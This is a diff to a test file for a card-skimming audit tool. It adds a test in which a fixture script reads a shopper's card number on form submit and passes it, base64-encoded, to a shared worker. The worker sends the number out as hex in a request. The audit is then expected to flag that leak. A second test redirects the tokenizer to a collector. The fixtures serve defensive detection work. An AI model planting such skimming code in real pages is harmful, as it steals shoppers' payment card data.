@@ -247,6 +247,44 @@ navigator.serviceWorker.register(policy.createScriptURL('/sw.js'));`;
   });
 });
 
+describe('card-tokenizer-audit --canary, shared and dedicated workers', () => {
+  it('records them with the script that started them, and watches a shared worker’s requests', async () => {
+    const start = `const policy = trustedTypes.createPolicy('offline', { createScriptURL: (url) => url });
+const shared = new SharedWorker(policy.createScriptURL('/shared.js'));
+new Worker(policy.createScriptURL('/dedicated.js'));
+document.addEventListener('submit', () => {
+  const number = document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');
+  shared.port.postMessage(btoa(number));
+}, { capture: true, once: true });`;
+    skimmedShop([{ path: '/sync.js', body: start }]);
+    // The worker decodes what the page hands it, and sends the digits as a number of its own.
+    site.files.set(
+      '/shared.js',
+      `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('/shared-sync?v=' + BigInt(atob(data)).toString(16)); };`,
+    );
+    site.files.set('/dedicated.js', `postMessage('ready');`);
+    const card = freshCanaryCard();
+    site.requests.splice(0);
+    await shopAsShopper(browser, site, card);
+    expect(received(site, card)).toContain('/shared-sync: card number, hex');
+
+    const run = await audit();
+    expect(run.evidence.workers).toEqual([
+      expect.objectContaining({
+        type: 'dedicated',
+        url: '/dedicated.js',
+        registeredBy: '/sync.js',
+      }),
+      expect.objectContaining({ type: 'shared', url: '/shared.js', registeredBy: '/sync.js' }),
+    ]);
+    expect(leaks(run)).toContainEqual(
+      expect.stringMatching(
+        /^request GET .*\/shared-sync\?v=[0-9a-f]+ from the shared worker .*\/shared\.js: card number, hex$/,
+      ),
+    );
+  });
+});
+
 describe('card-tokenizer-audit, the tokenization origin approved in the inventory', () => {
   it('fails when a script points the element at a collector that forwards to the service', async () => {
     const collector = `document.querySelector('card-tokenizer').setAttribute('card-registration-url', location.origin + '/collector/tokenize');`;
